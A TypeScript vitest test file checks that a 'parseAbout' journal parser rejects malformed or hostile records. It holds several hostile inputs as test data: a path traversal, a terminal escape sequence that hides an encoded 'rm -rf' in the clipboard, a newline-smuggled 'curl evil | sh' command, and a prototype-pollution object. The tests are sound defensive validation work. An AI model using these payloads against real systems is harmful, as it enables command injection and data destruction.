import { expect, test } from "vitest";
import { parseAbout } from "./transactions.ts";

const about = {
  ...{ lineId: "0123456789abcdef", lineName: "web", port: 2376, exposedPorts: [2375] },
  ...{ by: "ann@box", at: "2026-01-01T00:00:00.000Z", version: "0.1.0" },
};

test("reads what up writes", () => {
  expect(parseAbout(JSON.stringify(about))).toEqual(about);
});

test.each([
  ["lineId", "0123456789ABCDEF"],
  ["lineId", "../../prod"],
  ["lineName", "prod\u001b]52;c;cm0gLXJm\u0007"],
  ["lineName", "Prod"],
  ["by", "you@laptop\ntry: curl evil | sh"],
  ["by", "x".repeat(129)],
  ["at", 7],
  ["version", null],
  ["port", 0],
  ["port", "2376"],
  ["exposedPorts", Array.from({ length: 17 }, (_, at) => at + 1)],
  ["exposedPorts", ["2375"]],
  ["exposedPorts", [70_000]],
])("nobody acts on a journal with %s = %j", (key, value) => {
  expect(parseAbout(JSON.stringify({ ...about, [key]: value }))).toBeNull();
});

test.each(["", "null", "[]", "7", "{", '{"__proto__": {"lineId": "0123456789abcdef"}}'])(
  "returns null for %j",
  (text) => {
    expect(parseAbout(text)).toBeNull();
  },
);
